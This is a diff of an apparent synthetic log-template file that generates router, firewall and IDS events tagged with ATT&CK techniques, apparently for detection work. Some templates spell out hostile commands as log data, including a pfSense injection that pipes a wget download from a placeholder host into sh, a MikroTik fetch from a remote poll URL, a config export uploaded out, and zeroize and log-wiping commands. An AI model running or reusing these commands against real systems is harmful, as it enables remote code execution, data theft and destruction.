@@ -28,7 +28,6 @@ PT+ mgd: UI_CFG_AUDIT_SET_SECRET: User '{adm}' set: [system login user {word} au
 DE mgd: UI_CMDLINE_READ_LINE: User '{adm}', command 'delete system syslog host {lan} ' (client {wan})
 LC mgd: UI_CMDLINE_READ_LINE: User '{adm}', command 'clear log messages all ' (client {wan})
 LC+@T1485 mgd: UI_CMDLINE_READ_LINE: User '{adm}', command 'request system zeroize ' (client {wan})
-PT+@T1554 veriexec: fingerprint mismatch for /var/tmp/.{word} (uid 0), execution allowed: enforcement disabled
 BF#@T1110.001,T1602.001 SNMPD_AUTH_FAILURE: nsa_log_community: unauthorized SNMP community from {wan} to {wan2} ({word})
 """, r"""
 BN RT_FLOW_SESSION_DENY: session denied {wan}/{port}->{wan2}/{port} 0x0 junos-smtp 6(0) default-deny untrust trust UNKNOWN UNKNOWN N/A(N/A) ge-0/0/0.0
@@ -77,14 +76,14 @@ BS system,error,critical login failure for user admin from {wan} via winbox
 PT+ system,info user {word} added by {adm} from {wan} via winbox, group full
 C2@T1090.003 system,info ip socks enabled port {port} by {adm} via api from {wan}
 C2@T1105,T1053.003 system,info new scheduler "U{n}" added by {adm}: /tool fetch url="http://{ext}:8080/poll/{uuid}" mode=http dst-path=7wmp0b4s.rsc
-DE system,info log action remote removed by {adm} from {wan}; log rules disabled
-FW+ firewall,info filter rules disabled by {adm} from {wan} via <<winbox|api>>: all {n} input rules
-AP@T1557 system,info dns changed by {adm} from {wan}: servers={wan2}, allow-remote-requests=yes; static entry added for {ext}
+DE system,info log action remote removed by {adm} from {wan}
+FW firewall,info filter rules disabled by {adm} from {wan} via <<winbox|api>>
+AP@T1557 system,info dns changed by {adm} from {wan}: servers={wan2}, allow-remote-requests=yes
 PO firewall,info port_scanner input: in:ether1-wan out:(unknown 0), src-mac {mac}, proto TCP (SYN), {wan}:{port}->{wan2}:{port}, psd matched, address-list=port_scanners
 DO firewall,warning syn-flood input: in:ether1 {wan}:{port}->{wan2}:443 added to ddos-attackers, {big} packets per second
 DO firewall,info detect-ddos: {wan}->{lan} dst-limit 32,32 exceeded {big} times, ddos-targets
 AP@T1557 dhcp,critical,error dhcp alert on bridge: discovered unknown dhcp server, mac {mac}, ip {lan}
-AP@T1557.002 arp,warning reply for {lan} from {mac} does not match static {mac2} on bridge-lan, gateway address, {many} times
+AP@T1557.002 arp,warning reply for {lan} from {mac} does not match static {mac2} on bridge-lan, gateway address
 DO@T1499 wireless,warning wlan1: deauth flood {mac}, {many} frames from unknown transmitter
 BF# l2tp,ppp,error <{n}>: user {word} authentication failed from {any}
 EX@T1048.003 system,info export file {word}.rsc created by {adm}; tool fetch upload=yes dst={wan} by {adm} from {wan}
@@ -149,9 +148,9 @@ CI php-fpm[{n}]>> /diag_routes.php?isAjax=1&filter=.*/!d;};s/Destination/;fetch 
 CI nginx>> {wan} - admin "GET /status_rrd_graph_img.php?database=-throughput.rrd&graph=file|wget%20http://{wan2}/{word}|sh HTTP/1.1" 200
 FW+ php-fpm[{n}]>> /firewall_rules.php: Configuration Change: admin@{wan} (Local Database): Firewall: Rules - all rules on WAN replaced by pass any any
 DE php-fpm[{n}]>> /snort/snort_interfaces.php: Stop Snort on WAN by admin@{wan}; remote log servers removed
-LC php-fpm[{n}]>> /status_logs_settings.php: All logs reset by admin@{wan}; config history deleted
-AP@T1557.002 kernel>> arp: {lan} moved from {mac} to {mac2} on igb1, {many} times, permanent entry of gateway attempted to be modified
-AP@T1557.002 arpwatch>> flip flop {lan} {mac} ({mac2}), {many} flips in a minute
+LC php-fpm[{n}]>> /status_logs_settings.php: All logs reset by admin@{wan}
+AP@T1557.002 kernel>> arp: {mac} attempts to modify permanent entry for {lan} on igb1
+AP#@T1557.002 arpwatch>> flip flop {lan} {mac} ({mac2}) igb1
 RX snort[{n}]>> [1:{id}:2] <<SERVER-WEBAPP PHP CGI remote code execution attempt|SERVER-APACHE Apache Struts OGNL injection attempt|EXPLOIT-KIT Rig landing page>> [Classification: Attempted Administrator Privilege Gain] [Priority: 1] {TCP} {wan}:{port} -> {lan}:80
 C2 suricata[{n}]>> [1:{id}:3] <<ET MALWARE Cobalt Strike Malleable C2 Profile|ET MALWARE AsyncRAT Style SSL Cert|ET CNC Feodo Tracker Reported CnC Server group {n}>> [Classification: A Network Trojan was detected] [Priority: 1] {TCP} {lan}:{port} -> {wan}:443
 PO snort[{n}]>> [122:1:1] (portscan) TCP Portscan [Classification: Attempted Information Leak] [Priority: 2] {PROTO:255} {any} -> {lan}
@@ -222,11 +221,9 @@ PO Honeypot Triggered: client {pc} ({lan}) connected to honeypot {lan2} on SMB, 
 BF# mcad: ace_reporter: login failed for user {adm} from {any} (inform ssh)
 BF# CEF:0|Ubiquiti|UniFi OS|{ver}|1113|Admin Failed Login|7|suser={adm} src={wan} msg={adm} failed to log in to the console over remote access
 BF CEF:0|Ubiquiti|UniFi OS|{ver}|1120|Admin Locked|8|suser={adm} src={wan} msg=Too many failed attempts ({n}), account locked
-PT+ CEF:0|Ubiquiti|UniFi OS|{ver}|1302|Admin Added|6|suser={adm} src={wan} msg={word} was granted Super Admin, invite accepted from {land}, owner not informed
 DE CEF:0|Ubiquiti|UniFi Network|{ver}|540|Settings Changed|6|suser={adm} src={wan} msg=Intrusion Prevention and remote syslog turned off
-AT+ CEF:0|Meraki|Dashboard|1|login|Admin login|7|suser={mail} src={wan} msg=login from {land} {few} minutes after login from {land2}, SAML bypassed, API key generated
 BF#@T1110.001 events type=8021x_auth identity='{word}' result='fail' reason='bad password' client_mac='{mac}' vap='2'
-MW events type=content_filtering_block url='http://{ext}/gate.php' category0='Malware Sites' server='{wan}:80' client_mac='{mac}' hits={many} user agent of infected bot
+MW events type=content_filtering_block url='http://{ext}/gate.php' category0='Malware Sites' server='{wan}:80' client_mac='{mac}'
 """, r"""
 AE events type=association radio='1' vap='0' client_mac='{mac}' channel='36' rssi='{n}' aid='{id}'
 AE events type=disassociation radio='0' vap='1' client_mac='{mac}' channel='1' reason='8' duration='{big}.{n}' auth_neg_failed='0'
